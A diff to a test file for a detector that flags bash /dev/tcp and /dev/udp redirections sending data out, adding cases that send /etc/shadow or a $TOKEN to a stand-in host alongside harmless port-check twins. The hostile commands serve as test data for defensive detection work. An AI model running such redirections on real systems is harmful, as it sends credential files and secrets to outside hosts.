@@ -267,6 +267,9 @@ describe("bash's /dev/tcp and /dev/udp redirections", () => {
     ["exec 3<>/dev/tcp/203.0.113.9/4444", "/dev/tcp → host 203.0.113.9"],
     ["tar cz /data &>/dev/udp/h.example.de/514", "/dev/udp → host h.example.de"],
     ['cat /etc/shadow >> "/dev/tcp/$HOST/9000"', "/dev/tcp → unread /dev/tcp/$HOST/9000"],
+    // What a port check's echo or a redirection alone does not: a file, the words it is given.
+    ["(cat /etc/shadow > /dev/tcp/h.example.de/443) && echo open", "/dev/tcp → host h.example.de"],
+    ["echo $TOKEN > /dev/tcp/h.example.de/443", "/dev/tcp → host h.example.de"],
   ])("%s sends", (script, expected) => {
     expect(sends(script)).toEqual([expected]);
   });
@@ -276,6 +279,11 @@ describe("bash's /dev/tcp and /dev/udp redirections", () => {
     "exec 3</dev/tcp/h.example.de/80",
     'echo "> /dev/tcp/h.example.de/9000"',
     "cat /data > /dev/null",
+    // Found by bench regress84: a port check writes a newline at most.
+    "(echo > /dev/tcp/h.example.de/443) >/dev/null 2>&1 && echo open",
+    ": > /dev/tcp/h.example.de/22",
+    "timeout 1 bash -c 'echo -n > /dev/tcp/h.example.de/443'",
+    "timeout 1 bash -c '</dev/tcp/h.example.de/443'",
   ])("twin: %s sends nothing", (script) => {
     expect(sends(script)).toEqual([]);
   });
